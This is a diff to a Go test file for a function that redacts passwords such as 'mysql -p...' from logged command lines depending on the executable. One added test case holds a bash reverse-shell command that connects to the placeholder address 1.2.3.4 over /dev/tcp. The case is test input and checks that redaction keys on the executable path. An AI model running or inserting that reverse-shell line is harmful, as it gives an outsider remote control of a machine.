@@ -91,6 +91,11 @@ func TestRedactByExecutable(t *testing.T) {
 		{"/usr/bin/busybox", argv("sh", "-c", "mysql -phunter2"), argv("sh", "-c", "mysql -p[redacted]")},
 		{"/usr/bin/bash", argv("-bash", "-c", "mysql -phunter2"), argv("-bash", "-c", "mysql -p[redacted]")},
 		{"/usr/bin/mkdir", argv("mkdir", "-phunter2"), argv("mkdir", "-phunter2")},
+		// What argv[0] says does not matter where the executable is known.
+		{"/usr/bin/bash", argv("mkpasswd", "-c", "bash -i >& /dev/tcp/1.2.3.4/9 0>&1"), argv("mkpasswd", "-c", "bash -i >& /dev/tcp/1.2.3.4/9 0>&1")},
+		{"/usr/bin/python3.11", argv("mkpasswd", "-c", "import os"), argv("mkpasswd", "-c", "import os")},
+		{"/usr/bin/busybox", argv("mkpasswd", "hunter2"), argv("mkpasswd", "[redacted]")},
+		{"/usr/bin/.mysql-wrapped", argv("mysql", "-phunter2"), argv("mysql", "-p[redacted]")},
 		// The quotes of a secret in pieces stay pairs.
 		{"/bin/sh", argv("sh", "-c", `mysql -p'a'"b"c\ d db`), argv("sh", "-c", `mysql -p'[redacted]'"" db`)},
 		{"/bin/sh", argv("sh", "-c", `mysql "-pa"b db`), argv("sh", "-c", `mysql "-p[redacted]" db`)},
